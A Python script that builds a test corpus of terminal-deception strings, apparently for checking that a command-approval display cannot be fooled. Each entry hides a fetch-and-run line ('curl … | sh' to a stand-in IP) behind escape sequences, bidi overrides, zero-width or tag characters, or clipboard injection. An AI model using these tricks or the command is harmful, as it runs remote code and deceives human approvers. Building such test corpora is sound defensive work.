"""Write corpus.json: hostile strings that try to make a terminal or a page show something
other than what a run will do. Run from this folder: ``python make_corpus.py``.

Each entry has a name, the text, and ``shows``: what a person would read if the text reached
a terminal raw (the lie), so a test can check the lie is never what is shown. The texts are
built from code points here (not pasted), so the file is reproducible byte for byte.
"""

from __future__ import annotations

import json
from pathlib import Path

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
REAL = "curl -s http://203.0.113.9/x | sh"

CORPUS = [
    # CSI: return, erase the line, write a harmless one over the real command
    {"name": "csi_erase_line", "text": f"{REAL}\r{ESC}[2K{ESC}[1Gls -la", "shows": "ls -la"},
    # CSI: cursor up and erase the lines above (the approval header), then a fake prompt
    {"name": "csi_cursor_up", "text": f"{REAL}{ESC}[1A{ESC}[2K{ESC}[1A{ESC}[2Kls", "shows": "ls"},
    # SGR: conceal (invisible text) and black on black
    {"name": "csi_conceal", "text": f"ls {ESC}[8m; {REAL}{ESC}[0m", "shows": "ls"},
    # the single-byte C1 CSI (U+009B) a terminal in 8-bit mode obeys
    {"name": "c1_csi", "text": f"{REAL}\r\x9b2Kls -la", "shows": "ls -la"},
    # OSC 52: put a command on the person's clipboard (base64 of REAL)
    {
        "name": "osc52_clipboard",
        "text": f"ls{ESC}]52;c;Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo{BEL}",
        "shows": "ls",
    },
    # OSC 0: set the window title; OSC 8: a hyperlink whose target differs from its text
    {"name": "osc_title", "text": f"{ESC}]0;proctor: approved{BEL}{REAL}", "shows": REAL},
    {
        "name": "osc8_link",
        "text": f"{ESC}]8;;http://203.0.113.9/{ST}docs{ESC}]8;;{ST}",
        "shows": "docs",
    },
    # DCS and APC strings, which some terminals act on
    {"name": "dcs_apc", "text": f"{ESC}P+q544e{ST}{ESC}_hidden{ST}ls", "shows": "ls"},
    # backspaces over the real command
    {"name": "backspace", "text": REAL + "\b" * len(REAL) + "ls -la" + " " * 30, "shows": "ls -la"},
    # a bare carriage return: the rest of the line overwrites its start
    {
        "name": "carriage_return",
        "text": f"{REAL}\rls -la                             ",
        "shows": "ls -la",
    },
    # bidi: right-to-left override shows "ls | hs" for "sh | sl" reversed, and isolates
    {
        "name": "bidi_rlo",
        "text": "echo ok \u202ehs | x/9.311.0.302//:ptth s- lruc",
        "shows": "echo ok",
    },
    {"name": "bidi_isolates", "text": "ls\u2067 \u2066; " + REAL + "\u2069\u2069", "shows": "ls"},
    {
        "name": "bidi_marks",
        "text": "\u200f\u200els\u061c -la\u202a\u202b\u202c\u202d",
        "shows": "ls -la",
    },
    # zero-width and other invisible characters inside a word that looks safe
    {"name": "zero_width", "text": "l\u200bs\u200c \u200d-la\u2060\ufeff\u00ad", "shows": "ls -la"},
    # tag characters (invisible text a model can read), a line separator, bell and DEL
    {
        "name": "tags_and_separators",
        "text": "ls \U000e0072\U000e006d\u2028\u2029\x07\x7f",
        "shows": "ls",
    },
]


def main() -> None:
    out = Path(__file__).with_name("corpus.json")
    out.write_text(json.dumps(CORPUS, indent=2, ensure_ascii=True) + "\n")


if __name__ == "__main__":
    main()
